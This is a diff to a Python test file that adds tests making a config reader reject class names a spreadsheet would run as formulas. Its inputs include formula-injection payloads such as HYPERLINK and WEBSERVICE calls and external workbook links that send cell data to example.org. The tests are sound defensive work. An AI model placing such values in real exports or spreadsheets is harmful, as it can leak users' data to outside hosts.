@@ -10,6 +10,7 @@ import io
 import json
 import logging
 import re
+import time
 import unicodedata
 from collections.abc import Callable, Iterator
 from pathlib import Path
@@ -162,6 +163,38 @@ def test_a_class_with_another_fault_is_refused(study: Path, name: str, wording: 
         read_study(study)
     assert str(refused.value) == wording
     assert len(str(refused.value)) < 1000
+
+
+@pytest.mark.parametrize(
+    "name",
+    [
+        '=HYPERLINK ("http://example.org/"&A2)',
+        r"='\\example.org\share\[a.xlsx]b'!A1",
+        "+'http://example.org/[a.xlsx]b'!A1",
+        "\uff1dHYPERLINK(A2)",
+        # Where commas are decimal signs, a line is cut here, and this is a cell of its own.
+        "ill;=WEBSERVICE(A2)",
+    ],
+)
+def test_a_class_is_a_formula_in_no_spreadsheet(study: Path, name: str) -> None:
+    rewritten(study, classes=["healthy", name])
+    with pytest.raises(ConfigError, match="a spreadsheet would run it as a formula"):
+        read_study(study)
+
+
+@pytest.mark.parametrize("name", ["+", "-", "-1", "+ (weak)", "<=50K", "= 50", "a; b (c)"])
+def test_a_class_with_a_sign_is_taken_where_no_spreadsheet_runs_it(study: Path, name: str) -> None:
+    rewritten(study, classes=["healthy", name])
+    assert read_study(study).config.classes == ("healthy", name)
+
+
+def test_an_endless_class_keeps_nobody_at_work(study: Path) -> None:
+    rewritten(study, classes=["healthy", "=" + "|" * 1_000_000])
+    began = time.process_time()
+    with pytest.raises(ConfigError, match="1,000,001 characters, and 256 are the most"):
+        read_study(study)
+    # It was minutes.
+    assert time.process_time() - began < 20
 
 
 @pytest.mark.parametrize("place", ["header", "value"])
